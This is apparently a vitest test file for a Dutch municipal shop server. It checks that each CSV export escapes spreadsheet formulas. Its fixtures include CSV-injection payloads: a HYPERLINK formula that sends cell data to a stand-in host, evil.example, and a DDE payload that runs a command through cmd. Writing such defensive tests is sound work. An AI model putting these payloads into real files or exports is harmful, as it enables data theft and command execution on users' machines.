import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { startTestServer, type TestClient, type TestServer } from '../test/server.js';
import { DEMO_PASSWORD, DEMO_STAFF } from '../seeders/demo-accounts.js';
import { ManualClock } from '../kernel/clock.js';
import { todayInAmsterdam } from '../kernel/dates.js';
import { importCsv } from '../test/import-csv.js';

/**
 * Issue 24, "Every CSV is safe to open in Excel": every CSV export of the server, made from data with names a
 * spreadsheet would run as formulas (a leading `=`, `+`, `-`, `@`, tab or carriage return; a quote and a `;` inside).
 * Each cell must be written as text (a leading `'`), the rest of the file unharmed, and the amounts plain numbers.
 */

/** What a spreadsheet would run as a formula. */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")',
  '+31 6 12345678',
  '-Fietsenmaker',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\tTabtuin',
  '\rRegelterug',
];
const INSIDE = 'Sport "De Ster"; zwemmen';
/** The other municipalities: a formula with a quote and a `;` inside. */
const OTHER = '+Gemeente "Noord"; -1';

/** Every cell of a parsed file is neutralised; `hostile` cells read back as the original with one `'` in front. */
function expectNeutral(rows: string[][], label: string) {
  for (const row of rows)
    for (const cell of row) expect(cell, `${label}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
}
const unescape = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

describe('every CSV export neutralises formulas (the one CSV writer, platform/csv.ts)', () => {
  let server: TestServer;
  let beheerder: TestClient;
  let zuiderveen: string;
  let hostileProviders: string[] = [];
  const clock = new ManualClock(new Date('2030-06-18T10:00:00Z'));

  beforeAll(async () => {
    server = await startTestServer({ seed: true, demoActivity: true, clock });
    beheerder = server.client();
    await beheerder.loginStaff(DEMO_STAFF.find((s) => s.role === 'BEHEERDER')!.email, DEMO_PASSWORD);
    const em = server.orm.em.fork();
    zuiderveen = (await em.execute<{ id: string }[]>(`select id from municipality where slug = 'zuiderveen'`))[0]!.id;
    // Providers, a municipality and households named like formulas (as an older version, an import or a typo could).
    // Every provider with orders gets one of the names, in turn.
    const providers = await em.execute<{ id: string }[]>(
      `select provider_id as id from customer_order group by provider_id order by count(*) desc`,
    );
    for (const [i, p] of providers.entries())
      await em.execute(`update provider set name = ? where id = ?`, [HOSTILE[i % HOSTILE.length], p.id]);
    hostileProviders = HOSTILE.slice(0, providers.length);
    await em.execute(`update municipality set name = ? where id = ?`, [HOSTILE[0], zuiderveen]);
    await em.execute(`update municipality set name = ? where id <> ?`, [OTHER, zuiderveen]);
    const groups = await em.execute<{ id: string }[]>(
      `select distinct client_group_id as id from customer_order order by 1 limit ?`,
      [HOSTILE.length],
    );
    for (const [i, g] of groups.entries())
      await em.execute(`update client_group set client_number = ? where id = ?`, [`${HOSTILE[i]}-${i}`, g.id]);
  }, 240_000);

  afterAll(async () => {
    await server?.close();
  });

  async function csv(client: TestClient, path: string, delimiter: ';' | ',') {
    const res = await client.fetch(path);
    expect(res.status, path).toBe(200);
    expect(res.headers.get('content-type'), path).toMatch(/^text\/csv/);
    const rows: string[][] = parse(await res.text(), { delimiter, bom: true, relax_column_count: false });
    return rows;
  }

  it('the staff order export', async () => {
    const [header, ...rows] = await csv(beheerder, '/api/admin/bestellingen.csv', ';');
    expectNeutral(rows, 'bestellingen');
    const col = (name: string) => header!.indexOf(name);
    const providers = new Set(rows.map((r) => r[col('Aanbieder')]!));
    expect(hostileProviders.length).toBeGreaterThanOrEqual(3);
    for (const name of hostileProviders) expect(providers, name).toContain(`'${name}`);
    const municipalities = new Set(rows.map((r) => r[col('Gemeente')]));
    expect(municipalities).toContain(`'${HOSTILE[0]}`);
    expect(municipalities).toContain(`'${OTHER}`);
    expect(rows.map((r) => unescape(r[col('Klantnummer')]!))).toContain(`${HOSTILE[2]}-2`);
    for (const r of rows)
      for (const amount of ['Totaal', 'Uit tegoed', 'Eigen bijdrage']) expect(r[col(amount)]).toMatch(/^\d+,\d{2}$/);
  });

  it('the payments export', async () => {
    const [header, ...rows] = await csv(beheerder, '/api/export/betalingen.csv', ';');
    expect(rows.length).toBeGreaterThan(0);
    expectNeutral(rows, 'betalingen');
    const municipalities = new Set(rows.map((r) => r[header!.indexOf('gemeente')]));
    for (const name of municipalities) expect([`'${HOSTILE[0]}`, `'${OTHER}`]).toContain(name);
    for (const r of rows) expect(r[header!.indexOf('bedrag')]).toMatch(/^\d+,\d{2}$/);
  });

  it('the journal export', async () => {
    // The arrangement's name appears in the descriptions (after "Toegekend: ").
    await server.orm.em
      .fork()
      .execute(`update arrangement set name = ? where municipality_id = ?`, [HOSTILE[3], zuiderveen]);
    const period = todayInAmsterdam(clock.now()).slice(0, 7);
    const [header, ...rows] = await csv(
      beheerder,
      `/api/journaalposten/export?gemeente=${zuiderveen}&periode=${period}`,
      ';',
    );
    expect(header![0]).toBe('datum');
    expect(rows.length).toBeGreaterThan(0);
    expectNeutral(rows, 'journaalposten');
    for (const r of rows) for (const amount of [r[4]!, r[5]!]) expect(amount).toMatch(/^(\d{1,3}(\.\d{3})*,\d{2})?$/);
  });

  it('the provider’s payout specification', async () => {
    const em = server.orm.em.fork();
    const [line] = await em.execute<{ id: string; email: string }[]>(
      `select l.id, u.email from payout_line l join payout_batch b on b.id = l.batch_id
         join provider_user u on u.provider_id = l.provider_id where b.status = 'PAID' order by l.id limit 1`,
    );
    expect(line, 'the demo has a paid payout').toBeTruthy();
    const provider = server.client();
    await provider.loginProvider(line!.email, DEMO_PASSWORD);
    const [header, ...rows] = await csv(provider, `/api/aanbieder/uitbetalingen/${line!.id}/specificatie.csv`, ';');
    expect(header).toEqual(['Kenmerk', 'Bestelling', 'Geleverd op', 'Overdracht', 'Bedrag (EUR)']);
    expectNeutral(rows, 'specificatie');
    for (const r of rows) expect(r[4]).toMatch(/^\d+,\d{2}$/);
  });

  it('the import’s outcome and its example file', async () => {
    const form = new FormData();
    const hostileRows = HOSTILE.map((name, i) => ({
      huishoudnummer: `H-${i}`,
      klantnummer: name,
      voornaam: name,
      achternaam: INSIDE,
      geboortedatum: '01-01-1990',
    }));
    form.append('file', new Blob([importCsv(hostileRows)]), 'klanten.csv');
    const upload = await beheerder.fetch(`/api/imports?gemeente=${zuiderveen}`, {
      method: 'POST',
      body: form,
      headers: { 'x-gemeentewinkel-upload': '1' },
    });
    expect(upload.status).toBe(201);
    const { importRun } = (await upload.json()) as { importRun: { id: string } };
    const [header, ...rows] = await csv(beheerder, `/api/imports/${importRun.id}/uitkomst.csv`, ',');
    expect(header).toEqual(['regel', 'klantnummer', 'indeling', 'resultaat', 'toewijzing', 'melding']);
    expect(rows).toHaveLength(HOSTILE.length);
    expectNeutral(rows, 'uitkomst');
    // The client numbers as the file had them (trimmed, as the import reads them), written as text.
    expect(rows.map((r) => unescape(r[1]!))).toEqual(HOSTILE.map((name) => name.trim()));

    const [exampleHeader, ...example] = await csv(beheerder, `/api/imports/voorbeeld.csv?gemeente=${zuiderveen}`, ',');
    expect(exampleHeader).toContain('regeling');
    expectNeutral(example, 'voorbeeld');
    expect(example.map((r) => r[exampleHeader!.indexOf('regeling')])).toContain(`'${HOSTILE[3]}`);
  });
});
